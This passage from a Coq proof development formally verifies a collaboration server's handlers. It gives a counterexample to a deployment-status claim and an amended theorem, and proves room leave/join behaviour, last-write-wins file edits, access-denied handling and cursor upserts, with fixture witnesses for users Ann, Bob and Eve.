  rewrite compress_cons2. destruct (decide (a = b)) as [->|Hne].
  - by rewrite IH.
  - change (last (a :: b :: r)) with (last (b :: r)). rewrite <- IH.
    destruct (compress (b :: r)) eqn:E; [by apply compress_cons_ne in E|].
    reflexivity.
Qed.

Lemma compress_snoc l x : compress (l ++ [x]) = absorb (compress l) x.
Proof.
  unfold absorb. induction l as [|a l IH]; [reflexivity|].
  destruct l as [|b r].
  - simpl. destruct (decide (a = x)) as [->|Hne].
    + by rewrite decide_True.
    + rewrite decide_False; [done|]. by intros [= ->].
  - change ((a :: b :: r) ++ [x]) with (a :: b :: (r ++ [x])).
    rewrite !compress_cons2.
    change (b :: (r ++ [x])) with ((b :: r) ++ [x]). rewrite IH.
    destruct (decide (a = b)) as [->|Hne]; [done|].
    assert (Hl : last (a :: compress (b :: r)) = last (compress (b :: r))).
    { destruct (compress (b :: r)) eqn:E; [by apply compress_cons_ne in E|].
      reflexivity. }
    rewrite Hl. by destruct (decide (last (compress (b :: r)) = Some x)).
Qed.

Lemma statuses_of_snoc id l s :
  statuses_of id (l ++ [(id, s)]) = statuses_of id l ++ [s].
Proof.
  unfold statuses_of. rewrite List.filter_app. simpl. rewrite String.eqb_refl.
  by rewrite fmap_app.
Qed.

(** A write of a status to the deployment extends the sequence of the
    statuses it has taken by [absorb]. *)
Lemma sequence_snoc id l s :
  compress (statuses_of id (l ++ [(id, s)])) = absorb (compress (statuses_of id l)) s.
Proof. by rewrite statuses_of_snoc, compress_snoc. Qed.

(** The loop that writes the project files leaves the statuses alone. *)
Lemma write_files_frame files w :
  statusWrites (snd (write_files files w)) = statusWrites w.
Proof.
  revert w. induction files as [|f files IH]; intros w; [done|].
  destruct w as [d ad act ide ob co cl o us sp sw].
  cbn [write_files]. dred.
  destruct o as [|[so se|so se m] [|[so' se'|so' se' m'] o]]; dred; try reflexivity;
    match goal with
    | |- context [write_files files ?w0] =>
        specialize (IH w0); destruct (write_files files w0) as [[[]|e] w1]; exact IH
    end.
Qed.

(** C1 as stated fails, twice.  Eve cancels Ann's deployment while it
    is building and the task goes on: the deployment is failed, then
    building again, and ends in success.  And with no cancel request at
    all, the store going down after the success update, the deployment is
    success, then failed. *)
Lemma deployment_sequence_counterexample :
  ~ deployment_claim Fixture.jwt_verify "s-ann" start_p1 Fixture.world
      cancelled_while_building /\
  ~ deployment_claim Fixture.jwt_verify "s-ann" start_p1 store_down_after_success
      left_alone.
Proof.
  split; intros H.
  - specialize (H ann_ctx
      (exec_world (start_head Fixture.jwt_verify "s-ann" start_p1) Fixture.world)).
    assert (Hseq : status_sequence "id-1"
              (snd (run Fixture.jwt_verify ann_ctx "s-ann" cancelled_while_building
                      (AtCreate,
                       exec_world (start_head Fixture.jwt_verify "s-ann" start_p1)
                                  Fixture.world)))
            = [pending; building; failed; building; deploying; success])
      by (vm_compute; reflexivity).
    cbn [c_deploymentId ann_ctx] in H. rewrite Hseq in H.
    destruct H as (full & Hin & k & Hk); [vm_compute; reflexivity|].
    simpl in Hin. destruct Hin as [<-|[<-|[<-|[]]]]; discriminate Hk.
  - specialize (H ann_ctx
      (exec_world (start_head Fixture.jwt_verify "s-ann" start_p1)
                  store_down_after_success)).
    assert (Hseq : status_sequence "id-1"
              (snd (run Fixture.jwt_verify ann_ctx "s-ann" left_alone
                      (AtCreate,
                       exec_world (start_head Fixture.jwt_verify "s-ann" start_p1)
                                  store_down_after_success)))
            = [pending; building; deploying; success; failed])
      by (vm_compute; reflexivity).
    cbn [c_deploymentId ann_ctx] in H. rewrite Hseq in H.
    destruct H as (full & Hin & k & Hk); [vm_compute; reflexivity|].
    simpl in Hin. destruct Hin as [<-|[<-|[<-|[]]]]; discriminate Hk.
Qed.

(** *** The sequence when the task is left alone *)

Ltac settle_seq H :=
  unfold status_sequence, writes_of in *; cbn [statusWrites] in *;
  rewrite ?sequence_snoc; rewrite ?H; vm_compute; auto.

(** One resumption of the task keeps the sequence in step with the
    stage the task stands at. *)
Lemma resume_step jwt ctx starter now pc w :
  seq_at pc (status_sequence (c_deploymentId ctx) w) ->
  settles ctx (pc, w) now = true ->
  seq_at (fst (step jwt ctx starter (Resume now) (pc, w)))
         (status_sequence (c_deploymentId ctx)
            (snd (step jwt ctx starter (Resume now) (pc, w)))).
Proof.
  intros H Hs.
  destruct w as [d ad act ide ob co cl o us sp sw].
  destruct pc; cbn [seq_at] in H.
  - dred. cases. all: settle_seq H.
  - dred. cases. all: settle_seq H.
  - dred.
    match goal with
    | |- context [write_files ?f ?w0] =>
        pose proof (write_files_frame f w0) as Hw;
        destruct (write_files f w0) as [[[]|e] w1];
        destruct w1 as [d1 ad1 act1 ide1 ob1 co1 cl1 o1 us1 sp1 sw1];
        dred_in Hw; subst sw1
    end.
    all: dred. all: cases. all: settle_seq H.
  - dred. cases. all: settle_seq H.
  - dred. cases. all: settle_seq H.
  - dred. cases. all: settle_seq H.
  - dred_in Hs. dred. revert Hs. cases. all: intros Hs; try discriminate Hs.
    all: settle_seq H.
  - dred_in Hs. dred. revert Hs. cases. all: intros Hs; try discriminate Hs.
    all: settle_seq H.
  - dred. unfold status_sequence, writes_of in *. cbn [statusWrites] in *. exact H.
Qed.

(** A cancel request that does not find the deployment pending or
    building writes no status. *)
Lemma cancel_quiet jwt ctx starter now socket token roomId pc w :
  cancels jwt ctx token w = false ->
  fst (step jwt ctx starter (Cancel now socket token roomId) (pc, w)) = pc /\
  statusWrites (snd (step jwt ctx starter (Cancel now socket token roomId) (pc, w)))
    = statusWrites w.
Proof.
  unfold cancels. intros Hc.
  destruct w as [d ad act ide ob co cl o us sp sw]. dred_in Hc.
  cbn [step fst snd]. split; [reflexivity|].
  dred. cbn [cd_token cd_deploymentId cd_roomId].
  destruct (jwt token); dred; [|reflexivity].
  destruct (act !! c_deploymentId ctx) as [x|]; dred; [|reflexivity].
  unfold cancellable. destruct (dep_status x); try discriminate Hc; reflexivity.
Qed.

Lemma undisturbed_run jwt ctx starter steps pc w :
  seq_at pc (status_sequence (c_deploymentId ctx) w) ->
  undisturbed jwt ctx starter steps (pc, w) = true ->
  seq_at (fst (run jwt ctx starter steps (pc, w)))
         (status_sequence (c_deploymentId ctx) (snd (run jwt ctx starter steps (pc, w)))).
Proof.
  revert pc w. induction steps as [|s steps IH]; intros pc w H Hu; [exact H|].
  destruct s as [now|now socket token roomId].
  - cbn [undisturbed] in Hu. apply andb_true_iff in Hu as [Hs Hrest].
    pose proof (resume_step jwt ctx starter now pc w H Hs) as Hstep.
    unfold run in *. cbn [fold_left].
    destruct (step jwt ctx starter (Resume now) (pc, w)) as [pc' w'].
    apply IH; assumption.
  - cbn [undisturbed] in Hu. apply andb_true_iff in Hu as [Hc Hrest].
    apply negb_true_iff in Hc. cbn [snd] in Hc.
    destruct (cancel_quiet jwt ctx starter now socket token roomId pc w Hc) as [Hpc Hw].
    unfold run in *. cbn [fold_left].
    destruct (step jwt ctx starter (Cancel now socket token roomId) (pc, w)) as [pc' w'].
    cbn [fst snd] in Hpc, Hw. subst pc'.
    apply IH; [|assumption].
    unfold status_sequence, writes_of in *. by rewrite Hw.
Qed.

Lemma seq_at_lawful pc s : seq_at pc s -> lawful s.
Proof.
  unfold lawful, machine. intros H.
  destruct pc; cbn [seq_at] in H;
    repeat match goal with H : _ \/ _ |- _ => destruct H as [H|H] end; subst s.
  all: try (exists [pending; building; deploying; success];
            split; [simpl; tauto | eexists; reflexivity]).
  all: try (exists [pending; building; failed];
            split; [simpl; tauto | eexists; reflexivity]).
  all: exists [pending; building; deploying; failed];
       split; [simpl; tauto | eexists; reflexivity].
Qed.

Lemma seq_at_pending pc s : seq_at pc s -> head s = Some pending.
Proof.
  intros H. destruct pc; cbn [seq_at] in H;
    repeat match goal with H : _ \/ _ |- _ => destruct H as [H|H] end; by subst s.
Qed.

(** start-deployment enters the deployment as pending. *)
Lemma start_head_sequence jwt starter data w0 ctx w :
  start_head jwt starter data w0 = (Ok (Some ctx), w) ->
  writes_of (c_deploymentId ctx) w0 = [] ->
  status_sequence (c_deploymentId ctx) w = [pending].
Proof.
  destruct w0 as [d ad act ide ob co cl o us sp sw].
  unfold status_sequence, writes_of. cbn [statusWrites]. dred.
  destruct (jwt (sd_token data)) as [uid|]; dred; [|discriminate].
  repeat (first
    [ case_split
    | match goal with
      | |- context [match Store.user_findUnique ?a ?b with _ => _ end] =>
          destruct (Store.user_findUnique a b)
      | |- context [match project_with_includes ?a ?b ?c with _ => _ end] =>
          destruct (project_with_includes a b c) as [[[? ?] ?]|]
      | |- context [match ?l with [] => _ | _ :: _ => _ end] => is_var l; destruct l
      end ]; dred).
  all: intros Heq; try discriminate Heq; injection Heq as <- <-.
  all: cbn [c_deploymentId statusWrites]; intros Hw; rewrite sequence_snoc, Hw.
  all: reflexivity.
Qed.

Lemma cancel_untouched jwt socket data w d :
  activeDeployments w !! cd_deploymentId data = Some d ->
  cancellable d = false ->
  activeDeployments (exec_world (cancel_deployment jwt socket data) w)
    = activeDeployments w /\
  statusWrites (exec_world (cancel_deployment jwt socket data) w) = statusWrites w.
Proof.
  intros Hd Hc.
  destruct w as [dd ad act ide ob co cl o us sp sw]. dred_in Hd.
  dred. destruct (jwt (cd_token data)); dred; rewrite ?Hd, ?Hc; split; reflexivity.
Qed.

(** The handler start-deployment is its head followed by the first
    resumption of the run. *)
Lemma start_deployment_as_steps jwt starter data w0 ctx w :
  start_head jwt starter data w0 = (Ok (Some ctx), w) ->
  exec_world (start_deployment jwt starter data) w0 =
    snd (step jwt ctx starter (Resume (clock w)) (AtCreate, w)).
Proof.
  intros H. unfold start_deployment, exec_world, try_catch, bind. rewrite H.
  cbn [step fst snd].
  replace (WorldOps.set_clock (clock w) w) with w by (by destruct w).
  unfold try_catch, bind, ret.
  destruct (start_tail starter ctx w) as [[pc|e] w']; [reflexivity|].
  destruct w' as [d ad act ide ob co cl o us sp sw]. reflexivity.
Qed.

(** C1, as amended: as long as no cancel request with a token that
    verifies is handled while the deployment is pending or building, and
    the awaited calls that follow the success update go through, the
    statuses the deployment takes, cancel requests handled at any other
    time included, begin with pending and are a prefix of pending,
    building, deploying, success or of pending, building, optionally
    deploying, failed.  And
    cancel-deployment writes a status, failed, only to a deployment that
    is pending or building; a deployment that is deploying, success or
    failed it leaves as it is, with the table. *)
Theorem deployment_sequence_undisturbed :
  (forall jwt starter data w0 ctx w steps,
     start_head jwt starter data w0 = (Ok (Some ctx), w) ->
     writes_of (c_deploymentId ctx) w0 = [] ->
     undisturbed jwt ctx starter steps (AtCreate, w) = true ->
     lawful (status_sequence (c_deploymentId ctx)
               (snd (run jwt ctx starter steps (AtCreate, w)))) /\
     head (status_sequence (c_deploymentId ctx)
             (snd (run jwt ctx starter steps (AtCreate, w)))) = Some pending) /\
  (forall jwt socket data w d,
     activeDeployments w !! cd_deploymentId data = Some d ->
     dep_status d = deploying \/ dep_status d = success \/ dep_status d = failed ->
     let w' := exec_world (cancel_deployment jwt socket data) w in
     activeDeployments w' = activeDeployments w /\
     status_sequence (cd_deploymentId data) w' =
       status_sequence (cd_deploymentId data) w) /\
  (forall jwt socket data w d uid,
     jwt (cd_token data) = Some uid ->
     activeDeployments w !! cd_deploymentId data = Some d ->
     dep_status d = pending \/ dep_status d = building ->
     let w' := exec_world (cancel_deployment jwt socket data) w in
     dep_status <$> activeDeployments w' !! cd_deploymentId data = Some failed).
Proof.
  split; [|split].
  - intros jwt starter data w0 ctx w steps Hstart Hfresh Hu.
    assert (Hat : seq_at (fst (run jwt ctx starter steps (AtCreate, w)))
                    (status_sequence (c_deploymentId ctx)
                       (snd (run jwt ctx starter steps (AtCreate, w))))).
    { apply undisturbed_run; [|exact Hu].
      cbn [seq_at]. exact (start_head_sequence jwt starter data w0 ctx w Hstart Hfresh). }
    split; [exact (seq_at_lawful _ _ Hat) | exact (seq_at_pending _ _ Hat)].
  - intros jwt socket data w d Hd Hst w'. subst w'.
    assert (Hc : cancellable d = false).
    { unfold cancellable. by destruct Hst as [-> | [-> | ->]]. }
    destruct (cancel_untouched jwt socket data w d Hd Hc) as [Ha Hw].
    split; [exact Ha|]. unfold status_sequence, writes_of. by rewrite Hw.
  - intros jwt socket data w d uid Hjwt Hd Hst w'. subst w'.
    assert (Hc : cancellable d = true).
    { unfold cancellable. by destruct Hst as [-> | ->]. }
    rewrite (cancel_table jwt socket data w uid d Hjwt Hd), Hc.
    rewrite !lookup_alter_eq, Hd. reflexivity.
Qed.

(** Ann's deployment to GitHub Pages goes through pending, building,
    deploying, success; the cancel requests that come once it has
    succeeded are part of the run and change nothing. *)
Lemma deployment_sequence_undisturbed_witness :
  lawful (status_sequence "id-1"
            (snd (run Fixture.jwt_verify ann_ctx "s-ann" cancelled_too_late
                    (AtCreate,
                     exec_world (start_head Fixture.jwt_verify "s-ann" start_p1)
                                Fixture.world)))) /\
  status_sequence "id-1"
    (exec_world (cancel_deployment Fixture.jwt_verify "s-eve"
                   {| cd_token := "tok-eve"; cd_deploymentId := "id-1";
                      cd_roomId := "r2" |}) succeeded_world)
  = status_sequence "id-1" succeeded_world.
Proof.
  destruct deployment_sequence_undisturbed as (H1 & H2 & _). split.
  - apply (H1 Fixture.jwt_verify "s-ann" start_p1 Fixture.world ann_ctx
              (exec_world (start_head Fixture.jwt_verify "s-ann" start_p1) Fixture.world)
              cancelled_too_late).
    + vm_compute. reflexivity.
    + reflexivity.
    + vm_compute. reflexivity.
  - edestruct (H2 Fixture.jwt_verify "s-eve"
                 {| cd_token := "tok-eve"; cd_deploymentId := "id-1"; cd_roomId := "r2" |}
                 succeeded_world) as [_ H].
    + vm_compute. reflexivity.
    + right. left. reflexivity.
    + exact H.
Defined.

End DeploymentSpec.

(** ** More of collaboration.ts *)

Ltac hred :=
  cbv beta iota zeta delta
    [exec_world eval_world emitted logged bind ret throw try_catch prisma query
     await_ext execAsync new_Date randomUUID generated_id console_error emit socket_emit
     socket_to nsp_to socket_join set_db set_adapter set_activeDeployments
     set_ideConnections set_outbox set_console set_clock set_oracle set_uuids
     set_spawned set_statusWrites
     db adapter activeDeployments ideConnections outbox console clock oracle uuids
     spawned statusWrites fst snd plain_error err_message err_stdout err_stderr
     negb orb
     exec_server eval_server posts emits hret hbind hthrow htry lift post prisma_ide
     base posted ide_rows socket_leave socket_leave_all].

Ltac hred_in H :=
  cbv beta iota zeta delta
    [exec_world eval_world emitted logged bind ret throw try_catch prisma query
     await_ext execAsync new_Date randomUUID generated_id console_error emit socket_emit
     socket_to nsp_to socket_join set_db set_adapter set_activeDeployments
     set_ideConnections set_outbox set_console set_clock set_oracle set_uuids
     set_spawned set_statusWrites
     db adapter activeDeployments ideConnections outbox console clock oracle uuids
     spawned statusWrites fst snd plain_error err_message err_stdout err_stderr
     negb orb
     exec_server eval_server posts emits hret hbind hthrow htry lift post prisma_ide
     base posted ide_rows socket_leave socket_leave_all] in H.

Lemma difference_twice (X : gset string) (s : string) : X ∖ {[ s ]} ∖ {[ s ]} = X ∖ {[ s ]}.
Proof. apply set_eq. intros x. rewrite !elem_of_difference. tauto. Qed.

Lemma subscribers_leave_same s room ad :
  subscribers (leave s room ad) room = subscribers ad room ∖ {[ s ]}.
Proof.
  unfold leave. destruct (decide (subscribers ad room ∖ {[s]} = ∅)) as [He|Hne].
  - unfold subscribers at 1. rewrite lookup_delete_eq. simpl. by rewrite He.
  - unfold subscribers at 1. by rewrite lookup_insert_eq.
Qed.

Lemma subscribers_leave_other s room room' ad :
  room' <> room -> subscribers (leave s room ad) room' = subscribers ad room'.
Proof.
  intros Hne. unfold leave. destruct (decide (subscribers ad room ∖ {[s]} = ∅)).
  - unfold subscribers. by rewrite lookup_delete_ne.
  - unfold subscribers. by rewrite lookup_insert_ne.
Qed.

Module CollaborationMoreSpec.
Import Collaboration CollaborationClaims CollaborationMore.

Lemma leave_room_adapter socket roomId s :
  adapter (base (exec_server (leave_room socket roomId) s)) =
    leave (a_sid socket) roomId (adapter (base s)).
Proof.
  destruct s as [[d ad act ide ob co cl o us sp sw] po rows].
  unfold leave_room. hred. reflexivity.
Qed.

(** X1: leave-room takes the socket out of the room and out of no other
    room, and tells the sockets that stay; it does so whether or not the
    socket was in the room. *)
Theorem leave_room_unsubscribes socket roomId s :
  let s' := exec_server (leave_room socket roomId) s in
  subscribers (adapter (base s')) roomId =
    subscribers (adapter (base s)) roomId ∖ {[ a_sid socket ]} /\
  (forall room, room <> roomId ->
     subscribers (adapter (base s')) room = subscribers (adapter (base s)) room) /\
  posts (leave_room socket roomId) s =
    [ {| po_from := Some (a_sid socket); po_target := ToRoomOthers roomId;
         po_recipients := subscribers (adapter (base s)) roomId ∖ {[ a_sid socket ]};
         po_notice := NoUserLeft (a_user socket) (clock (base s)) |} ].
Proof.
  cbv zeta. rewrite leave_room_adapter.
  split; [apply subscribers_leave_same|]. split.
  - intros room Hne. by apply subscribers_leave_other.
  - destruct s as [[d ad act ide ob co cl o us sp sw] po rows].
    unfold leave_room. hred. rewrite drop_length_app.
    unfold resolve. by rewrite subscribers_leave_same, difference_twice.
Qed.

(** Bob leaves r1, where he was alone. *)
Lemma leave_room_unsubscribes_witness :
  subscribers (adapter (base (exec_server (leave_room (Fixture.socket_of Fixture.bob) "r1")
                                (server_of Fixture.world)))) "r1" = ∅ /\
  subscribers (adapter (base (exec_server (leave_room (Fixture.socket_of Fixture.bob) "r1")
                                (server_of Fixture.world)))) "r2" =
    subscribers (adapter Fixture.world) "r2".
Proof.
  destruct (leave_room_unsubscribes (Fixture.socket_of Fixture.bob) "r1"
              (server_of Fixture.world)) as (H1 & H2 & _).
  split.
  - rewrite H1. vm_compute. reflexivity.
  - apply H2. discriminate.
Defined.

(** X2: a join-room that is granted, followed by leave-room, leaves the
    room with the subscribers it had, the socket not among them. *)
Theorem join_then_leave socket roomId s r :
  next_fault (base s) = None ->
  Store.room_findFirst roomId (a_userId socket) (db (base s)) = Some r ->
  let s' := exec_server (hbind (lift (join_room socket roomId))
                               (fun _ => leave_room socket roomId)) s in
  subscribers (adapter (base s')) roomId =
    subscribers (adapter (base s)) roomId ∖ {[ a_sid socket ]}.
Proof.
  intros Hf Hr.
  pose proof (CollaborationSpec.join_room_granted socket roomId (base s) r Hf Hr) as Hj.
  unfold exec_world in Hj.
  destruct s as [w po rows]. cbn [base] in *.
  unfold exec_server, hbind, lift. cbn [base posted ide_rows].
  assert (Hok : exists w1, join_room socket roomId w = (Ok tt, w1)).
  { unfold next_fault in Hf. destruct w as [d ad act ide ob co cl o us sp sw].
    hred_in Hf. hred_in Hr. unfold join_room.
    destruct o as [|[so se|so se m] o]; try discriminate Hf; hred; rewrite Hr;
      eexists; reflexivity. }
  destruct Hok as [w1 Hw1]. rewrite Hw1 in *. cbn [snd] in Hj.
  pose proof (leave_room_adapter socket roomId
                {| base := w1; posted := po; ide_rows := rows |}) as Hl.
  unfold exec_server in Hl. cbn [base] in Hl. rewrite Hl, subscribers_leave_same, Hj.
  unfold subscribers at 1. rewrite lookup_insert_eq. cbn [default]. unfold id.
  apply set_eq. intros x. rewrite !elem_of_difference, elem_of_union, elem_of_singleton.
  tauto.
Qed.

Lemma join_then_leave_witness :
  subscribers
    (adapter (base (exec_server
       (hbind (lift (join_room (Fixture.socket_of Fixture.ann) "r1"))
              (fun _ => leave_room (Fixture.socket_of Fixture.ann) "r1"))
       {| base := Fixture.world; posted := []; ide_rows := [] |}))) "r1"
  = {[ "s-bob" ]}.
Proof.
  rewrite (join_then_leave (Fixture.socket_of Fixture.ann) "r1"
             {| base := Fixture.world; posted := []; ide_rows := [] |}
             {| room_id := "r1"; room_name := "lab"; room_ownerId := "ann";
                room_isPublic := true |} eq_refl eq_refl).
  vm_compute. reflexivity.
Defined.

(** *** code-change *)

Lemma calls_fine_split n m o :
  calls_fine (n + m) o = true -> calls_fine n o = true /\ calls_fine m (drop n o) = true.
Proof.
  revert o. induction n as [|n IH]; intros o H; [by rewrite drop_0|].
  destruct o as [|[so se|so se msg] o]; simpl in *; try discriminate.
  - split; [done|]. by destruct m.
  - by apply IH.
Qed.

(** An accepted code-change, as a run. *)
Lemma code_change_run socket data w file :
  calls_fine 2 (oracle w) = true ->
  Store.projectFile_findFirst (cc_fileId data) (a_userId socket) (db w) = Some file ->
  exists w',
    code_change socket data w = (Ok tt, w') /\
    db w' = Store.set_files (map (rewrite_file (cc_fileId data) (cc_content data)
                                    (clock w))) (db w) /\
    oracle w' = drop 2 (oracle w) /\ clock w' = clock w.
Proof.
  intros Hf Hfile.
  pose proof (CollaborationSpec.found_file_exists _ _ _ _ Hfile) as Hex.
  destruct w as [d ad act ide ob co cl o us sp sw].
  mred_in Hf. mred_in Hfile. mred_in Hex. unfold code_change.
  destruct o as [|[so se|so se m] [|[so' se'|so' se' m'] o]]; try discriminate Hf;
    mred; rewrite Hfile; mred;
    rewrite (CollaborationSpec.projectFile_update_found _ _ _ _ Hex); mred;
    eexists; repeat split; reflexivity.
Qed.

(** The access query on a file sees a rewritten file table as it saw
    the table before. *)
Lemma findFirst_after_rewrite fileId uid d id c now :
  Store.projectFile_findFirst fileId uid
    (Store.set_files (map (rewrite_file id c now)) d)
  = rewrite_file id c now <$> Store.projectFile_findFirst fileId uid d.
Proof.
  unfold Store.projectFile_findFirst, Store.file_project_grants,
    Store.project_room_grants, Store.owner_or_member, Store.members_some, Store.set_files.
  cbn [db_files db_projects db_rooms db_members].
  apply BridgeSpec.find_map_stable.
  intros f. unfold rewrite_file. by destruct (String.eqb (file_id f) id).
Qed.

(** X3: of two code-changes on the same file that are accepted one
    after the other, the content the store holds is that of the second,
    whoever sent the first. *)
Theorem code_change_last_write_wins socket1 socket2 data1 data2 w file1 file2 :
  cc_fileId data1 = cc_fileId data2 ->
  calls_fine 4 (oracle w) = true ->
  Store.projectFile_findFirst (cc_fileId data1) (a_userId socket1) (db w) = Some file1 ->
  Store.projectFile_findFirst (cc_fileId data2) (a_userId socket2) (db w) = Some file2 ->
  let w' := exec_world (code_change socket1 data1 ;; code_change socket2 data2) w in
  file_content <$>
    Store.projectFile_findFirst (cc_fileId data2) (a_userId socket2) (db w')
  = Some (cc_content data2).
Proof.
  intros Hid Hf H1 H2 w'. subst w'.
  destruct (calls_fine_split 2 2 _ Hf) as [Hf1 Hf2].
  destruct (code_change_run socket1 data1 w file1 Hf1 H1) as (w1 & Hr1 & Hd1 & Ho1 & Hc1).
  assert (H2' : Store.projectFile_findFirst (cc_fileId data2) (a_userId socket2) (db w1)
                = Some (rewrite_file (cc_fileId data1) (cc_content data1) (clock w) file2)).
  { by rewrite Hd1, findFirst_after_rewrite, H2. }
  rewrite <- Ho1 in Hf2.
  destruct (code_change_run socket2 data2 w1 _ Hf2 H2') as (w2 & Hr2 & Hd2 & _ & _).
  unfold exec_world, bind. rewrite Hr1, Hr2. cbn [snd].
  rewrite Hd2, findFirst_after_rewrite, H2'. cbn [fmap option_fmap option_map].
  unfold rewrite_file at 1.
  assert (Hfid : file_id (rewrite_file (cc_fileId data1) (cc_content data1) (clock w) file2)
                 = cc_fileId data2).
  { unfold Store.projectFile_findFirst in H2'. apply find_some in H2' as [_ H].
    apply andb_true_iff in H as [H _]. by apply String.eqb_eq. }
  by rewrite Hfid, String.eqb_refl.
Qed.

(** Bob writes v1 to f1, then Ann writes v2. *)
Lemma code_change_last_write_wins_witness :
  file_content <$>
    Store.projectFile_findFirst "f1" "ann"
      (db (exec_world
             (code_change (Fixture.socket_of Fixture.bob)
                {| cc_roomId := "r1"; cc_fileId := "f1"; cc_content := "v1";
                   cc_changes := [] |} ;;
              code_change (Fixture.socket_of Fixture.ann)
                {| cc_roomId := "r1"; cc_fileId := "f1"; cc_content := "v2";
                   cc_changes := [] |})
             Fixture.world))
  = Some "v2".
Proof.
  exact (code_change_last_write_wins
           (Fixture.socket_of Fixture.bob) (Fixture.socket_of Fixture.ann)
           {| cc_roomId := "r1"; cc_fileId := "f1"; cc_content := "v1"; cc_changes := [] |}
           {| cc_roomId := "r1"; cc_fileId := "f1"; cc_content := "v2"; cc_changes := [] |}
           Fixture.world
           {| file_id := "f1"; file_name := "a.txt"; file_path := "a.txt";
              file_content := "v0"; file_language := "text";
              file_projectId := "p1"; file_updatedAt := 50 |}
           {| file_id := "f1"; file_name := "a.txt"; file_path := "a.txt";
              file_content := "v0"; file_language := "text";
              file_projectId := "p1"; file_updatedAt := 50 |}
           eq_refl eq_refl eq_refl eq_refl).
Defined.

(** X4: a code-change on a file that is not stored or that the caller
    has no access to, or for which the lookup of the file fails, writes
    nothing to the store and is broadcast to nobody: the one message is
    an error to the sender alone, 'File not found or access denied' when
    the lookup goes through and 'Failed to update code' when it
    fails. *)
Theorem code_change_denied socket data w :
  Store.projectFile_findFirst (cc_fileId data) (a_userId socket) (db w) = None \/
  is_Some (next_fault w) ->
  db (exec_world (code_change socket data) w) = db w /\
  forallb to_sender (emitted (code_change socket data) w) = true /\
  (next_fault w = None ->
     em_event <$> emitted (code_change socket data) w =
       [EvError "File not found or access denied"]) /\
  (is_Some (next_fault w) ->
     em_event <$> emitted (code_change socket data) w = [EvError "Failed to update code"]).
Proof.
  unfold next_fault.
  destruct w as [d ad act ide ob co cl o us sp sw]. mred. unfold code_change.
  intros [Hfile|[m Hf]].
  - destruct o as [|[so se|so se m] o]; mred; rewrite ?Hfile; mred; tidy;
      repeat split; try done; intros [? ?]; done.
  - destruct o as [|[so se|so se m'] o]; try discriminate Hf; mred; tidy;
      repeat split; done.
Qed.

(** Eve has no access to f1; and Ann, who has, sends a change while the
    store is down. *)
Lemma code_change_denied_witness :
  db (exec_world (code_change (Fixture.socket_of Fixture.eve)
                    {| cc_roomId := "r2"; cc_fileId := "f1"; cc_content := "x";
                       cc_changes := [] |}) Fixture.world)
  = db Fixture.world /\
  em_event <$> emitted (code_change (Fixture.socket_of Fixture.eve)
                    {| cc_roomId := "r2"; cc_fileId := "f1"; cc_content := "x";
                       cc_changes := [] |}) Fixture.world
  = [EvError "File not found or access denied"] /\
  em_event <$> emitted (code_change (Fixture.socket_of Fixture.ann)
                    {| cc_roomId := "r1"; cc_fileId := "f1"; cc_content := "x";
                       cc_changes := [] |}) (Fixture.faulty "store down")
  = [EvError "Failed to update code"].
Proof.
  destruct (code_change_denied (Fixture.socket_of Fixture.eve)
              {| cc_roomId := "r2"; cc_fileId := "f1"; cc_content := "x";
                 cc_changes := [] |} Fixture.world (or_introl eq_refl))
    as (Hd & _ & He & _).
  destruct (code_change_denied (Fixture.socket_of Fixture.ann)
              {| cc_roomId := "r1"; cc_fileId := "f1"; cc_content := "x";
                 cc_changes := [] |} (Fixture.faulty "store down")
              (or_intror (ex_intro _ "store down" eq_refl)))
    as (_ & _ & _ & Hfail).
  split; [exact Hd|]. split; [exact (He eq_refl)|].
  apply Hfail. by eexists.
Defined.

(** *** cursor-update *)

Lemma filter_map_stable {A} (p : A -> bool) (g : A -> A) (l : list A) :
  (forall x, p (g x) = p x) -> List.filter p (map g l) = map g (List.filter p l).
Proof.
  intros Hp. induction l as [|x l IH]; [done|]. simpl.
  rewrite Hp. destruct (p x); simpl; by rewrite IH.
Qed.

Lemma filter_none {A} (p : A -> bool) (l : list A) :
  existsb p l = false -> List.filter p l = [].
Proof.
  induction l as [|x l IH]; [done|]. simpl. intros H.
  apply orb_false_iff in H as [Hx Hl]. rewrite Hx. by apply IH.
Qed.

Lemma filter_some {A} (p : A -> bool) (l : list A) :
  existsb p l = true -> List.filter p l <> [].
Proof.
  intros H Hn. apply existsb_exists in H as (x & Hin & Hx).
  assert (Hf : In x (List.filter p l)) by (apply filter_In; done).
  rewrite Hn in Hf. destruct Hf.
Qed.

(** X5: a cursor-update that is persisted leaves one cursor row for
    the user on the file, with the position sent, provided there was at
    most one before; the rows of other users and of other files are left
    as they were.  The file is not looked up: the row is written for any
    file id. *)
Theorem cursor_update_one_row socket data w :
  next_fault w = None ->
  (length (cursors_of (a_userId socket) (cu_fileId data) (db w)) <= 1)%nat ->
  let d' := db (exec_world (cursor_update socket data) w) in
  (exists c,
     cursors_of (a_userId socket) (cu_fileId data) d' = [c] /\
     cursor_position c = cu_position data /\ cursor_line c = cu_line data /\
     cursor_column c = cu_column data /\ cursor_lastActivity c = clock w) /\
  other_cursors (a_userId socket) (cu_fileId data) d' =
    other_cursors (a_userId socket) (cu_fileId data) (db w).
Proof.
  unfold next_fault, cursors_of, other_cursors. intros Hf Hlen.
  destruct w as [d ad act ide ob co cl o us sp sw]. mred_in Hf. mred_in Hlen.
  assert (Hrun : db (exec_world (cursor_update socket data)
                       {| db := d; adapter := ad; activeDeployments := act;
                          ideConnections := ide; outbox := ob; console := co;
                          clock := cl; oracle := o; uuids := us; spawned := sp;
                          statusWrites := sw |})
                 = snd (Store.cursor_upsert (a_userId socket) (cu_fileId data)
                          (cu_position data) (cu_line data) (cu_column data)
                          (cu_selection data) cl d)).
  { unfold cursor_update, Store.cursor_upsert.
    destruct o as [|[so se|so se m] o]; try discriminate Hf; mred;
      destruct (existsb _ (db_cursors d)); reflexivity. }
  cbv zeta. rewrite Hrun. mred. unfold Store.cursor_upsert.
  set (p := Store.same_cursor (a_userId socket) (cu_fileId data)) in *.
  destruct (existsb p (db_cursors d)) eqn:Hex; cbn [snd Store.set_cursors db_cursors].
  - set (g := fun c : Cursor => if p c then _ else c).
    assert (Hg : forall c, p (g c) = p c).
    { intros c. subst g. cbv beta. destruct (p c) eqn:Hc; [|exact Hc].
      subst p. unfold Store.same_cursor. cbn. by rewrite !String.eqb_refl. }
    split.
    + rewrite (filter_map_stable p g _ Hg).
      destruct (List.filter p (db_cursors d)) as [|c0 [|c1 rest]] eqn:Hl.
      * by apply filter_some in Hex.
      * assert (Hc0 : p c0 = true).
